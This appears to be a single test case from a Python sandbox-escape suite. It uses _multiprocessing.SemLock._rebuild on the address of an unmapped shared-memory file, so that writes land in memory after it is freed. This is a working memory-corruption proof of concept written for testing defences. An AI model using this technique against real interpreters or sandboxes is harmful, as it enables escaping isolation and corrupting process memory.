# class: machine_code
# rule: native_code
# success: SemLock changes memory that lies where the file of a semaphore was mapped before
# proof: word
import _multiprocessing
import mmap
import os

from attack import attempt

SIZE = 1 << 20


def start_of(path):
    with open("/proc/self/maps") as maps:
        return next(int(line.split("-")[0], 16) for line in maps if path in line)


@attempt
def count():
    path = "/dev/shm/sem.unmapped-%d" % os.getpid()
    with open(path, "w+b") as file:
        file.truncate(SIZE)
        mapped = mmap.mmap(file.fileno(), SIZE)
        try:
            lock = _multiprocessing.SemLock._rebuild(start_of(path), 1, 9, None)
        finally:
            os.unlink(path)
    mapped[:1] = b"\7"
    lock.acquire(False)
    mapped.close()
    for _ in range(64):
        other = mmap.mmap(-1, SIZE)
        other[:1] = b"\7"
        lock.acquire(False)
        if other[:1] != b"\7":
            return True
    return False
